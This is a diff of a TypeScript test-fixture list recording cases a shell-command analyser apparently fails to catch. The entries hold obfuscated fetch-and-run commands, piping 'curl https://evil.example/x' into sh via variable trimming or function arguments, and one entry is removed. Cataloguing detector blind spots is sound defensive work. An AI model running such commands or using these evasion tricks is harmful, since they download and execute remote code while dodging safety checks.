@@ -82,12 +82,6 @@ export const NOT_FOLLOWED: readonly Limit[] = [
     told: [MISSED, 'shell-wrapper@it'],
   },
   {
-    name: 'parts of a variable by a pattern',
-    file: bash('x=xcurl; ${x#?} https://evil.example/x | sh'),
-    reason: 'A pattern is not matched against what a variable holds.',
-    told: [MISSED, 'shell-wrapper@it'],
-  },
-  {
     name: 'the arguments of a function',
     file: sh('f() { $1 https://evil.example/x | $2; }; f curl sh'),
     reason: 'What a function is called with is put into what it starts, and not into what it downloads.',
